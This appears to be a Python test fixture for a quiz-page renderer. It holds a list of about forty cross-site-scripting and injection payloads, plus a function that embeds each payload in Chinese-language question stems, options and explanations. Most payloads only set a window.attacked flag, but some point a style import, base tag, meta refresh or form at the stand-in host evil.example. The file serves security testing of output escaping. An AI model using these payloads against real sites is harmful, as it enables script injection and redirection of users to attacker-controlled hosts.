"""What an attacker writes into an item, and a page full of it. Each sets `window.attacked`."""

PAYLOADS = [
    "<script>window.attacked=1</script>",
    "<ScRiPt>window.attacked=1</sCrIpT>",
    "<img src=x onerror=window.attacked=1>",
    "<img src=x onerror='window.attacked=1'>",
    '"><img src=x onerror=window.attacked=1>',
    "'><img src=x onerror=window.attacked=1>",
    "<svg onload=window.attacked=1>",
    "<svg><script>window.attacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "<body onload=window.attacked=1>",
    "<details open ontoggle=window.attacked=1>",
    "<input autofocus onfocus=window.attacked=1>",
    "<select autofocus onfocus=window.attacked=1>",
    "<video><source onerror=window.attacked=1></video>",
    "<math><mtext></mtext><script>window.attacked=1</script></math>",
    "<a href=javascript:window.attacked=1>点</a>",
    "[点](javascript:window.attacked=1)",
    "[点](JaVaScRiPt:window.attacked=1)",
    "[点](data:text/html,<script>window.attacked=1</script>)",
    '![x](x" onerror="window.attacked=1)',
    "</legend><script>window.attacked=1</script>",
    "</label><script>window.attacked=1</script>",
    "</select><script>window.attacked=1</script>",
    "</details></div><script>window.attacked=1</script>",
    '" onmouseover="window.attacked=1',
    "' onmouseover='window.attacked=1",
    "{{ 7 * 7 }}{% set attacked = 1 %}",
    "${window.attacked=1}",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    "&#60;script&#62;window.attacked=1&#60;/script&#62;",
    "<!--><script>window.attacked=1</script>-->",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>点</button></form>",
    "<template><script>window.attacked=1</script></template>",
    '[[x"><script>window.attacked=1</script>]]',
    "**<b onclick=window.attacked=1>重</b>**",
    "\\x3cscript\\x3ewindow.attacked=1\\x3c/script\\x3e",
    "`<script>window.attacked=1</script>`",
]
_FRONT = (
    "---\ntitle: 攻击\norder: 9\nminutes: 9\nobjectives:\n  - 看\n---\n\n"
    "## 节 { #attack-section }\n"
)


def page_of_payloads() -> str:
    """A module of items: each payload in a stem, an option, a reason and an explanation."""
    lines = [_FRONT]
    for number, payload in enumerate(PAYLOADS):
        name = "".join("abcdefghij"[int(digit)] for digit in f"{number:02}")
        lines.append(
            f"### 题目{number} {'{'} #attack-{name} .题 {'}'}\n\n"
            f"第{number}问：依据文一，{payload} 是什么？\n\n"
            f"- [x] 对的{number}\n- [ ] 错的{number} {payload}\n\n    因为 {payload}\n\n"
            f"- [ ] 另一个{number}\n\n    也因为 {payload}\n\n"
            f"- 解析：看 {payload}\n- 出处：[[s1-1]]\n"
        )
    return "\n".join(lines)
